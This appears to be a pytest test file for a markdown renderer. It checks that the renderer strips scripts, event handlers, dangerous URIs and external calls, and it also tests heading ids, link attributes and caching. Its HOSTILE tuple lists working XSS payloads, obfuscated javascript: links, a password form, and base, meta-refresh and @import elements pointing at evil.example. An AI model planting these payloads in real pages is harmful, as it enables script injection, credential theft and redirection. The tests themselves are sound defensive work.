"""Markdown of owners as safe HTML: no stored scripts, no links that run, no pictures.

Promises H35.
"""

from __future__ import annotations

import re

import pytest

from apim.ui.article import Heading, render, render_article

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></mtext><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<a href='https://x.example' onclick='alert(1)' style='position:fixed'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "[x](https://x.example \"t' onmouseover='alert(1)\")",
    "# <b id=main onclick=alert(1)>x</b>",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    '```js" onclick="alert(1)\nx\n```',
    "<style>@import url(https://evil.example)</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
)  # fmt: skip
_TAG = re.compile(r"<[^>]*>")


@pytest.mark.parametrize("text", HOSTILE, ids=[f"hostile-{number}" for number in range(len(HOSTILE))])
def test_nothing_that_runs_or_calls_home_is_left(text: str) -> None:
    for html in (render(text, first_heading=3), render_article(text).html):
        tags = " ".join(_TAG.findall(html)).lower()
        assert not re.search(r"<(script|img|svg|iframe|math|form|input|style|base|meta|object|embed)\b", tags)
        assert not re.search(
            r"\son\w+\s*=|style=|srcdoc|class=", tags.replace("title=\"t' onmouseover='alert(1)\"", "")
        )
        assert not re.search(r"(javascript|vbscript|data)(:|&#58;)", tags)
        assert 'id="main"' not in tags


def test_links_out_tell_nobody_where_they_come_from() -> None:
    html = render("[x](https://x.example) [y](/apis/bank) [z](mailto:a@b.example)", first_heading=3)
    assert html.count('rel="noopener noreferrer nofollow"') == 3
    assert 'href="/apis/bank"' in html


def test_headings_of_an_article_can_be_linked_to_and_are_listed() -> None:
    article = render_article("# Start here\n## The `key`\n## The key\n### Deep\n# 口座を開く\n# !!")
    assert article.headings == (
        Heading(1, "s-start-here", "Start here"),
        Heading(2, "s-the-key", "The key"),
        Heading(2, "s-the-key-2", "The key"),
        Heading(1, "s-口座を開く", "口座を開く"),
        Heading(1, "s-part", "!!"),
    )
    assert '<h2 id="s-start-here">' in article.html
    assert '<h4 id="s-deep">' in article.html


def test_an_article_whose_headings_start_deeper_starts_below_the_page_s_own_as_well() -> None:
    article = render_article("### One\n#### Two")
    assert [heading.level for heading in article.headings] == [1, 2]
    assert "<h2" in article.html
    assert "<h3" in article.html


def test_ids_are_made_for_articles_only() -> None:
    assert "id=" not in render("# One", first_heading=3)


def test_ten_thousand_equal_headings_have_as_many_ids_and_none_is_that_of_a_literal_one() -> None:
    article = render_article("# a-2\n" + "# a\n" * 10_000)
    ids = [heading.id for heading in article.headings]
    assert ids[:4] == ["s-a-2", "s-a", "s-a-3", "s-a-4"]
    assert len(set(ids)) == len(ids)


def links_in(text: str) -> int:
    return render(text, first_heading=2).count("<a ")


def test_beyond_so_many_openings_the_rest_of_a_text_is_shown_as_it_was_written() -> None:
    hostile = f"[one](https://example.com/1)\n\n{'[' * 100_000}\n\n[two](https://example.com/2)"
    html = render(hostile, first_heading=2)
    assert 'href="https://example.com/1"' in html
    assert "[two](https://example.com/2)" in html
    assert html.count("[") == 100_001


def test_an_honest_text_of_many_links_keeps_them_all() -> None:
    assert links_in("\n".join(f"- [part {number}](https://example.com/{number})" for number in range(2_000))) == 2_000


def test_a_long_text_is_rendered_once_a_process() -> None:
    text = f"# Long\n\n{'Words. ' * 2_000}"
    assert render_article(text) is render_article(text)
    assert render("short", first_heading=2) == render("short", first_heading=2)
